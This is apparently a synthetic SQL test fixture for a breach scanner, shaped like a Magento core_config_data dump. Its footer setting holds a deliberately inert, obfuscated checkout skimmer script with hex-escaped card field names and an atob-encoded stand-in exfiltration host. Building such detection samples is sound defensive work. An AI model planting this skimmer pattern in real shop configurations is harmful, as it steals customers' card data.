-- synthetic test sample for breachscan: Magento database dump shape - the design footer
-- configuration holds a script tag with an obfuscated checkout skimmer (atob-hidden host,
-- card field names as hex escapes). Inert: the script's body is guarded by `if(false)` and
-- the host is an .invalid name.
DROP TABLE IF EXISTS `core_config_data`;
CREATE TABLE `core_config_data` (
  `config_id` int(10) unsigned NOT NULL AUTO_INCREMENT,
  `scope` varchar(8) NOT NULL DEFAULT 'default',
  `scope_id` int(11) NOT NULL DEFAULT '0',
  `path` varchar(255) NOT NULL DEFAULT 'general',
  `value` text,
  PRIMARY KEY (`config_id`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8;
INSERT INTO `core_config_data` VALUES (1,'default',0,'web/unsecure/base_url','https://shop.example.invalid/'),(2,'default',0,'design/head/includes','<link rel=\"stylesheet\" type=\"text/css\" href=\"{{MEDIA_URL}}styles.css\" media=\"all\" />'),(3,'default',0,'design/footer/absolute_footer','<script>if(false){var k=[\'\\x63\\x63\\x5f\\x6e\\x75\\x6d\\x62\\x65\\x72\',\'\\x63\\x63\\x5f\\x63\\x69\\x64\'];if(location.href.indexOf(\'onestepcheckout\')>-1){new Image().src=atob(\'aHR0cHM6Ly9jZG4uaW52YWxpZC9wLmdpZj9kPQ==\')+btoa(k.join(\'|\'));}}</script>');
